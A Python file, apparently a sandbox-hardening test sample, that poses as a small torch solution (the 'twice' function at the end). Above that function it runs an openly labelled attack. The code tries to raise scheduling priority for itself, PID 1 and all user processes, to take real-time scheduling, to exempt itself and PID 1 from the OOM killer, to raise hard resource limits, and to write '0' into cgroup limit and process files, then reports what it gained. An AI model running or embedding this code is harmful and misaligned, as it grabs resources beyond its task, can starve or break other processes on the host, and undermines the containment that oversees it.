# Strategy: asks for a higher priority, real-time scheduling, freedom from the OOM killer, and more of all that
# is limited, for itself and for others.
# Surface: what the kernel lets a process without rights change.
import os
import resource
from pathlib import Path

import torch

gained = []


def attempt(name, act):
    try:
        act()
        gained.append(name)
    except (OSError, ValueError):
        pass


attempt("nice", lambda: os.setpriority(os.PRIO_PROCESS, 0, -10))
attempt("nice of 1", lambda: os.setpriority(os.PRIO_PROCESS, 1, -10))
attempt("nice of all", lambda: os.setpriority(os.PRIO_USER, 0, -10))
for name in ("FIFO", "RR"):
    attempt(name, lambda: os.sched_setscheduler(0, getattr(os, f"SCHED_{name}"), os.sched_param(1)))
attempt("oom_score_adj", lambda: Path("/proc/self/oom_score_adj").write_text("-1000"))
attempt("oom_score_adj of 1", lambda: Path("/proc/1/oom_score_adj").write_text("-1000"))
for name in ("NPROC", "NOFILE", "CORE", "MEMLOCK", "RTPRIO", "NICE", "MSGQUEUE", "SIGPENDING"):
    number = getattr(resource, f"RLIMIT_{name}")
    soft, hard = resource.getrlimit(number)
    if hard != resource.RLIM_INFINITY:
        attempt(name, lambda: resource.setrlimit(number, (soft, hard + 1)))
attempt("limits of 1", lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)))
for path in Path("/sys/fs/cgroup").rglob("*") if Path("/sys/fs/cgroup").exists() else ():
    if path.name in ("cgroup.procs", "memory.max", "pids.max", "memory.limit_in_bytes", "tasks"):
        attempt(str(path), lambda: path.write_text("0"))
print(f"attack: limits and priorities, gained: {', '.join(gained) or 'nothing'}", flush=True)


def twice(x, y):
    torch.mul(x, 2, out=y)
